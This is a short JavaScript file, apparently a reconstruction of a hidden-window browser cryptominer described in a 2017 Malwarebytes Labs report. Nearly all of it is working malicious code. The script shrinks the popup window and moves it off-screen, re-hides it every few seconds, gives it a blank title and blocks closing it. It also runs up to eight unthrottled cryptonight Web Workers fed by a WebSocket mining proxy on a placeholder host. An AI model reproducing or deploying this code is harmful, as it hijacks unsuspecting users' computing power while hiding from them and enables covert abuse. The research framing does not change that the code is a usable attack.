// hidden-window-miner, second variant, written from the same Malwarebytes Labs report
// (2017): the script that runs inside the hidden window itself, loaded there from a cloud
// host. It keeps the window out of sight (shrinks it, pushes it behind the taskbar, gives
// focus back to the opener), mines with several Web Workers fed by a WebSocket pool proxy,
// and keeps going after the opener closes, re-hiding the window whenever it is moved.
(function () {
  function hide() {
    try {
      window.resizeTo(1, 1);
      window.moveTo(screen.width - 60, screen.height + 40);
      if (window.opener && !window.opener.closed) window.opener.focus();
      window.blur();
    } catch (e) {}
  }
  hide();
  setInterval(function () { if (window.screenY < screen.height) hide(); }, 5000);
  document.title = "\u200b";
  var conn = new WebSocket("wss://elastic-minerproxy.invalid/socket");
  var threads = Math.min(8, navigator.hardwareConcurrency || 4);
  var pool = [];
  for (var i = 0; i < threads; i++) {
    var wk = new Worker("https://elastic-minerproxy.invalid/worker/cryptonight-asmjs.min.js");
    wk.onmessage = function (e) {
      if (e.data && e.data.nonce && conn.readyState === 1) conn.send(JSON.stringify({ type: "submit", params: e.data }));
    };
    pool.push(wk);
  }
  conn.onopen = function () {
    conn.send(JSON.stringify({ type: "auth", params: { site_key: "q8Zx1Vb3Nm5Lk7Jh", type: "anonymous", user: null } }));
  };
  conn.onmessage = function (e) {
    var msg = JSON.parse(e.data);
    if (msg.type === "job") pool.forEach(function (w) { w.postMessage({ job: msg.params, throttle: 0 }); });
  };
  window.onbeforeunload = function () { return ""; };
})();
